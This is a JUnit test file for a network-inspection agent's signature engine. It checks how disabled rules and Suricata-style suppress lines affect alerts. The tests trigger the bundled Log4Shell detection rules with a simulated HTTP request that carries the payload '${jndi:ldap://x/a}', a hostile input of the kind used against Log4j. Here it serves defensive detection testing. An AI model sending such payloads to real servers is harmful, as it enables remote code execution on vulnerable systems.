package io.netwatch.agent.inspect;

import static io.netwatch.agent.Frames.*;
import static org.junit.jupiter.api.Assertions.*;

import io.netwatch.agent.Pipeline;
import io.netwatch.agent.capture.LinkType;
import io.netwatch.agent.flow.FlowTableConfig;
import io.netwatch.agent.inspect.signature.RuleTuning;
import io.netwatch.agent.inspect.signature.RuleVariables;
import io.netwatch.agent.inspect.signature.RuleWatcher;
import io.netwatch.agent.inspect.signature.RulesConfig;
import io.netwatch.agent.inspect.signature.Signatures;
import io.netwatch.agent.inspect.signature.Suppression;
import io.netwatch.agent.score.DetectionConfig;
import io.netwatch.proto.anomaly.v1.Anomaly;
import io.netwatch.proto.flow.v1.Flow;
import io.netwatch.proto.flow.v1.SignatureAlert;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Tuning the bundled rules inside the pipeline, as a Suricata user does: a sid disabled is
 * never compiled, and a suppress line of the threshold file keeps a real alert from being raised
 * (no alert event, no line in the flow record, no anomaly) while it is counted. The alert is
 * the bundled Log4Shell rule (sid 9100001, on the payload) firing on a request for
 * {@code /?q=${jndi:...}}; the bundled URI rule (sid 9100002) fires on the same request, and
 * must stay untouched by a line that names 9100001.
 */
class RuleTuningInspectionTest {
    private static final int LOG4SHELL = 9100001;
    private static final int LOG4SHELL_URI = 9100002;

    @TempDir
    Path dir;
    private final List<Flow> flows = new ArrayList<>();
    private final List<InspectionEvent> events = new ArrayList<>();
    private final List<Anomaly> anomalies = new ArrayList<>();
    private Pipeline pipeline;
    private Signatures signatures;
    private long t = 1_700_000_000_000_000_000L;

    private static final byte[] CLIENT = ipv4(10, 0, 0, 1);
    private static final byte[] SERVER = ipv4(10, 0, 0, 2);
    private static final byte[] OTHER_CLIENT = ipv4(192, 168, 7, 9);

    /** The bundled rules, as the agent loads them with this tuning. */
    private void load(RuleTuning tuning, RuleVariables vars) {
        load(List.of(), true, tuning, vars);
    }

    /** These rule files, with or without the bundled rules, as the agent loads them with this tuning. */
    private void load(List<Path> files, boolean bundled, RuleTuning tuning, RuleVariables vars) {
        signatures = new RulesConfig(files, bundled, Duration.ZERO, Signatures.DEFAULT_PAYLOAD_DEPTH, vars, tuning)
                .load();
        pipeline = Pipeline.create("n", List.of("eth0"), FlowTableConfig.defaults(), DetectionConfig.defaults(),
                InspectionConfig.defaults(), signatures, flows::add, anomalies::add, events::add);
    }

    /** The bundled rules with this threshold file. */
    private Path suppressing(String threshold) throws Exception {
        Path f = dir.resolve("threshold.config");
        Files.writeString(f, threshold);
        load(new RuleTuning(List.of(), f), RuleVariables.defaults());
        assertEquals(List.of(), signatures.lastLoad().tuningErrors());
        return f;
    }

    private void segment(byte[] src, int sport, byte[] dst, int dport, int flags, int seq, String data) {
        byte[] payload = data.getBytes(StandardCharsets.ISO_8859_1);
        byte[] tcp = tcp(sport, dport, flags, seq, payload.length);
        System.arraycopy(payload, 0, tcp, 20, payload.length);
        byte[] f = ethernet(0x0800, ipv4Packet(src, dst, 6, tcp));
        pipeline.onPacket(ByteBuffer.wrap(f), LinkType.ETHERNET, t += 1000, f.length, 0);
    }

    /** A Log4Shell request from {@code client} to {@code server}:80, in a flow of its own. */
    private void exploit(byte[] client, int cport, byte[] server) {
        segment(client, cport, server, 80, 0x02, 100, "");
        segment(server, 80, client, cport, 0x12, 500, "");
        segment(client, cport, server, 80, 0x10, 101, "");
        segment(client, cport, server, 80, 0x18, 101, "GET /?q=${jndi:ldap://x/a} HTTP/1.1\r\nHost: h\r\n\r\n");
    }

    /** The sids of the alert events, in order. */
    private List<Integer> alerted() {
        return events.stream().filter(e -> e instanceof InspectionEvent.Alert)
                .map(e -> ((InspectionEvent.Alert) e).rule().sid()).toList();
    }

    /** The sids in the flow records' alerts. */
    private List<Integer> recorded() {
        return flows.stream().flatMap(f -> f.getAlertsList().stream()).map(SignatureAlert::getSid).toList();
    }

    /** The sids the signature anomalies name. */
    private List<Integer> anomalous() {
        return anomalies.stream().filter(a -> a.getAnomalyType().equals("signature"))
                .flatMap(a -> a.getExplanation().getObservationsList().stream())
                .filter(o -> o.getName().equals("rule_sid"))
                .map(o -> (int) o.getObserved()).toList();
    }

    @Test
    void theExploitFiresBothLog4ShellRulesUntuned() {
        // The baseline the tests below depend on: without tuning, both rules fire everywhere.
        load(RuleTuning.NONE, RuleVariables.defaults());
        exploit(CLIENT, 40000, SERVER);
        pipeline.finish();
        assertEquals(List.of(LOG4SHELL_URI, LOG4SHELL), alerted());
        assertEquals(List.of(LOG4SHELL_URI, LOG4SHELL), recorded());
        assertEquals(List.of(LOG4SHELL_URI, LOG4SHELL), anomalous());
    }

    @Test
    void aWholeRuleSuppressionSilencesThatRuleOnlyAndCountsIt() throws Exception {
        suppressing("suppress gen_id 1, sig_id 9100001\n");
        exploit(CLIENT, 40000, SERVER);
        exploit(OTHER_CLIENT, 40001, SERVER);
        pipeline.finish();
        assertEquals(List.of(LOG4SHELL_URI, LOG4SHELL_URI), alerted());
        assertEquals(List.of(LOG4SHELL_URI, LOG4SHELL_URI), recorded(), "no line in the flow records");
        assertEquals(List.of(LOG4SHELL_URI, LOG4SHELL_URI), anomalous(), "no anomaly");
        assertEquals(2, signatures.suppressed(Suppression.Track.RULE));
        assertEquals(2, pipeline.inspector().alerts(), "suppressed alerts are not counted as raised");
    }

    /**
     * A suppression by address that covers one side of a flow leaves the other side's match
     * raised, as Suricata raises it (found in review: the suppressed match marked the rule as
     * fired for the flow, so the server's match that followed was never checked).
     */
    @Test
    void aMatchSuppressedOnOneSideLeavesTheOtherSidesMatchRaised() throws Exception {
        Path rules = dir.resolve("local.rules");
        Files.writeString(rules, "alert tcp any any -> any any (msg:\"marker\"; content:\"MARKER-7Q\"; sid:1000001; rev:1;)\n");
        Path threshold = dir.resolve("threshold.config");
        Files.writeString(threshold, "suppress gen_id 1, sig_id 1000001, track by_src, ip 10.0.0.1\n");
        load(List.of(rules), false, new RuleTuning(List.of(), threshold), RuleVariables.defaults());
        assertEquals(List.of(), signatures.lastLoad().tuningErrors());
        segment(CLIENT, 40000, SERVER, 9000, 0x02, 100, "");
        segment(SERVER, 9000, CLIENT, 40000, 0x12, 500, "");
        segment(CLIENT, 40000, SERVER, 9000, 0x10, 101, "");
        segment(CLIENT, 40000, SERVER, 9000, 0x18, 101, "hello MARKER-7Q\n");
        assertEquals(List.of(), alerted(), "the client's match is suppressed");
        segment(SERVER, 9000, CLIENT, 40000, 0x18, 501, "echo MARKER-7Q\n");
        pipeline.finish();
        assertEquals(List.of(1000001), alerted(), "the server's match is not covered: raised");
        assertEquals(List.of(1000001), recorded());
        assertEquals(1, signatures.suppressed(Suppression.Track.BY_SRC));
    }

    /** Local rules {@code text} with threshold lines {@code threshold}, in a pipeline of their own. */
    private void localRules(String text, String threshold) throws Exception {
        Path rules = dir.resolve("local.rules");
        Files.writeString(rules, text);
        Path t = dir.resolve("threshold.config");
        Files.writeString(t, threshold);
        signatures = new RulesConfig(List.of(rules), false, Duration.ZERO, Signatures.DEFAULT_PAYLOAD_DEPTH,
                RuleVariables.defaults(), new RuleTuning(List.of(), t)).load();
        assertEquals(List.of(), signatures.lastLoad().errors());
        assertEquals(List.of(), signatures.lastLoad().tuningErrors());
        pipeline = Pipeline.create("n", List.of("eth0"), FlowTableConfig.defaults(), DetectionConfig.defaults(),
                InspectionConfig.defaults(), signatures, flows::add, anomalies::add, events::add);
    }

    /**
     * A match suppressed is counted once, however often its fast pattern is in the bytes it
     * was found in (found in review: once a suppressed match left the rule unfired, each
     * occurrence of the pattern checked the rule again on all the bytes so far and counted one
     * more suppressed alert, three for this one segment).
     */
    @Test
    void aSuppressedPayloadMatchIsCountedOnceForTheSegmentThatHoldsIt() throws Exception {
        localRules("alert tcp any any -> any any (msg:\"marker\"; content:\"MARKER-7Q\"; sid:1000001; rev:1;)\n",
                "suppress gen_id 1, sig_id 1000001, track by_src, ip 10.0.0.1\n");
        segment(CLIENT, 40000, SERVER, 9000, 0x02, 100, "");
        segment(SERVER, 9000, CLIENT, 40000, 0x12, 500, "");
        segment(CLIENT, 40000, SERVER, 9000, 0x10, 101, "");
        segment(CLIENT, 40000, SERVER, 9000, 0x18, 101, "MARKER-7Q MARKER-7Q MARKER-7Q\n");
        pipeline.finish();
        assertEquals(List.of(), alerted());
        assertEquals(1, signatures.suppressed(Suppression.Track.BY_SRC));
    }

    /** The same for a rule on a parsed field: one request, one suppressed alert. */
    @Test
    void aSuppressedFieldMatchIsCountedOncePerMessage() throws Exception {
        localRules("alert http any any -> any any (msg:\"marker\"; http.uri; content:\"MARKER-7Q\"; sid:1000002; rev:1;)\n",
                "suppress gen_id 1, sig_id 1000002, track by_src, ip 10.0.0.1\n");
        segment(CLIENT, 40000, SERVER, 80, 0x02, 100, "");
        segment(SERVER, 80, CLIENT, 40000, 0x12, 500, "");
        segment(CLIENT, 40000, SERVER, 80, 0x10, 101, "");
        String request = "GET /MARKER-7Q/MARKER-7Q?MARKER-7Q HTTP/1.1\r\nHost: h\r\n\r\n";
        segment(CLIENT, 40000, SERVER, 80, 0x18, 101, request);
        pipeline.finish();
        assertEquals(List.of(), alerted());
        assertEquals(1, signatures.suppressed(Suppression.Track.BY_SRC));
    }

    @Test
    void bySrcSuppressesTheAlertsOfThatSenderOnly() throws Exception {
        suppressing("suppress gen_id 1, sig_id 9100001, track by_src, ip 10.0.0.1\n");
        exploit(CLIENT, 40000, SERVER);
        exploit(OTHER_CLIENT, 40001, SERVER);
        pipeline.finish();
        assertEquals(List.of(LOG4SHELL_URI, LOG4SHELL_URI, LOG4SHELL), alerted());
        assertEquals(List.of(LOG4SHELL_URI, LOG4SHELL_URI, LOG4SHELL), recorded());
        assertEquals(1, signatures.suppressed(Suppression.Track.BY_SRC));
        assertEquals(0, signatures.suppressed(Suppression.Track.RULE));
    }

    @Test
    void byDstTakesAPrefixAndComparesTheReceiver() throws Exception {
        // The server's /24: by_dst covers requests to it, whoever sends them.
        suppressing("suppress gen_id 1, sig_id 9100001, track by_dst, ip 10.0.0.0/24\n");
        exploit(CLIENT, 40000, SERVER);
        exploit(OTHER_CLIENT, 40001, SERVER);
        exploit(CLIENT, 40002, OTHER_CLIENT);
        pipeline.finish();
        assertEquals(List.of(LOG4SHELL_URI, LOG4SHELL_URI, LOG4SHELL_URI, LOG4SHELL), alerted());
        assertEquals(List.of(LOG4SHELL_URI, LOG4SHELL_URI, LOG4SHELL_URI, LOG4SHELL), recorded());
        assertEquals(2, signatures.suppressed(Suppression.Track.BY_DST));
    }

    @Test
    void byEitherTakesAListAndAnAddressGroup() throws Exception {
        // The scanner's address as the team's own group: either side of the alert may be it.
        Path f = dir.resolve("threshold.config");
        Files.writeString(f, "suppress gen_id 1, sig_id 9100001, track by_either, ip [$SCANNERS,203.0.113.5]\n");
        load(new RuleTuning(List.of(), f), RuleVariables.defaults().with(Map.of("SCANNERS", "192.168.7.9/32"), Map.of()));
        assertEquals(List.of(), signatures.lastLoad().tuningErrors());
        exploit(OTHER_CLIENT, 40001, SERVER); // from the scanner
        exploit(CLIENT, 40002, OTHER_CLIENT); // to it
        exploit(CLIENT, 40003, SERVER); // neither
        pipeline.finish();
        assertEquals(List.of(LOG4SHELL_URI, LOG4SHELL_URI, LOG4SHELL_URI, LOG4SHELL), alerted());
        assertEquals(2, signatures.suppressed(Suppression.Track.BY_EITHER));
    }

    @Test
    void sigId0WithAnAddressSuppressesEveryRuleForIt() throws Exception {
        suppressing("suppress gen_id 1, sig_id 0, track by_src, ip 192.168.7.9\n");
        exploit(OTHER_CLIENT, 40001, SERVER);
        exploit(CLIENT, 40002, SERVER);
        pipeline.finish();
        assertEquals(List.of(LOG4SHELL_URI, LOG4SHELL), alerted(), "the other client's alerts only");
        assertEquals(2, signatures.suppressed(Suppression.Track.BY_SRC));
    }

    @Test
    void aDisabledBundledSidIsNotLoadedAndNeverFires() {
        load(new RuleTuning(List.of(LOG4SHELL), null), RuleVariables.defaults());
        assertTrue(signatures.current().rules().stream().noneMatch(r -> r.sid() == LOG4SHELL));
        assertEquals(Signatures.bundled().current().size() - 1, signatures.current().size());
        assertEquals(List.of(), signatures.lastLoad().tuningErrors());
        exploit(CLIENT, 40000, SERVER);
        pipeline.finish();
        assertEquals(List.of(LOG4SHELL_URI), alerted());
        assertEquals(List.of(LOG4SHELL_URI), recorded());
    }

    @Test
    void aChangedThresholdFileTakesEffectAtReloadAndABadOneKeepsThePrevious() throws Exception {
        Path f = suppressing("# nothing yet\n");
        List<Signatures.LoadReport> reports = new ArrayList<>();
        try (RuleWatcher w = signatures.watch(Duration.ofHours(1), reports::add)) {
            exploit(CLIENT, 40000, SERVER);
            assertEquals(List.of(LOG4SHELL_URI, LOG4SHELL), alerted());

            Files.writeString(f, "suppress gen_id 1, sig_id 9100001, track by_src, ip 10.0.0.1\n");
            assertTrue(w.checkNow(), "the watcher follows the threshold file");
            assertEquals(1, signatures.suppressions().size());
            exploit(CLIENT, 40001, SERVER);
            assertEquals(List.of(LOG4SHELL_URI, LOG4SHELL, LOG4SHELL_URI), alerted());

            // A file that cannot be read keeps the suppressions in force, as the rules stay.
            Files.write(f, new byte[] {'s', (byte) 0xFF, '\n'});
            assertTrue(w.checkNow());
            assertFalse(reports.getLast().loaded());
            assertTrue(reports.getLast().failure().startsWith("threshold file " + f), reports.getLast().failure());
            assertEquals(1, signatures.suppressions().size());
            exploit(CLIENT, 40002, SERVER);
            assertEquals(List.of(LOG4SHELL_URI, LOG4SHELL, LOG4SHELL_URI, LOG4SHELL_URI), alerted());
            assertEquals(1, signatures.failedReloads());

            Files.writeString(f, "rate_filter gen_id 1, sig_id 9100001, track by_src, count 1, seconds 60, new_action"
                    + " drop, timeout 60\n");
            assertTrue(w.checkNow());
            assertTrue(reports.getLast().loaded());
            assertEquals(0, signatures.suppressions().size(), "a refused line suppresses nothing");
            assertEquals(1, reports.getLast().tuningErrors().size());
            exploit(CLIENT, 40003, SERVER);
            assertEquals(List.of(LOG4SHELL_URI, LOG4SHELL, LOG4SHELL_URI, LOG4SHELL_URI, LOG4SHELL_URI, LOG4SHELL),
                    alerted());
        }
    }
}
